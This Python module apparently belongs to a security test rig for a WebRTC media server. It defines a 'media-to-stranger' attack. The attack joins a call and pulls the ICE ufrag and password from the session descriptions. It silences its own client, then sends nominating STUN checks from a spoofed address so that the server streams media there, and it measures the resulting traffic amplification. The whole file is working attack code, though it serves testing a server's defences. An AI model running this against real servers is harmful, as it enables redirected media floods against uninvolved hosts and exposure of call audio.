"""Media is sent to an address that never asked for it, because a check came from there."""

import os
import re
import socket
import threading
import time

from tools import stun
from tools.target import HOST, Attack, Outcome, Target

from rig.plain_client import PlainClient  # (found by tools.target)
from rig.polling import eventually

SECONDS = 12
# An address of this machine that takes part in no call.
STRANGER = "127.0.0.77"


def run(target: Target) -> Outcome:
    outcome = Outcome()
    client = PlainClient(target.origin, target.user(), "Viewer", voice_hertz=440).connect()
    snapshot = client.join(target.group)
    publisher = next(entry for entry in snapshot["participants"] if entry["camera"])
    client.watch(publisher["participantId"])
    eventually(lambda: client.frames["audio"] > 20, "media flows to the attacker")
    time.sleep(1)
    connection = client._connection
    own = credentials(connection.localDescription.sdp)
    server = credentials(connection.remoteDescription.sdp)
    # From here on the attacker's own client is silent.
    client._loop.call_soon_threadsafe(time.sleep, 3600)

    stranger = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    stranger.bind((STRANGER, 0))
    received, by_second = [0, 0], [0] * (SECONDS + 1)
    began = time.monotonic()

    def listen() -> None:
        stranger.settimeout(0.2)
        while time.monotonic() < began + SECONDS:
            try:
                data = stranger.recv(2048)
            except TimeoutError:
                continue
            received[0] += 1
            received[1] += len(data)
            by_second[int(time.monotonic() - began)] += len(data)

    listener = threading.Thread(target=listen)
    listener.start()
    for _ in range(2):
        check = stun.check(server["ufrag"], own["ufrag"], server["pwd"], nominate=True)
        outcome.sent_bytes += stranger.sendto(check, (HOST, target.media_port))
        time.sleep(0.2)
    listener.join()
    outcome.findings.append(
        f"{outcome.sent_bytes} bytes of checks brought {received[1]:,} bytes in {received[0]:,} packets within {SECONDS} s"
        f" ({received[1] / outcome.sent_bytes:,.1f} times as much)"
    )
    last = next((second for second, count in reversed(list(enumerate(by_second))) if count), 0)
    outcome.findings.append(f"the last packet came in second {last}")
    return outcome


def credentials(sdp: str) -> dict[str, str]:
    return {name: re.search(rf"a=ice-{name}:(\S+)", sdp)[1] for name in ("ufrag", "pwd")}


def run_and_leave(target: Target) -> Outcome:
    """The frozen client cannot be closed in order; the process ends without it."""
    outcome = run(target)
    threading.Timer(2, os._exit, (0,)).start()
    return outcome


ATTACKS = {
    "media-to-stranger": Attack(
        "Checks from an address that is in no call", "a user who can spoof sources", SECONDS + 6, run_and_leave
    )
}
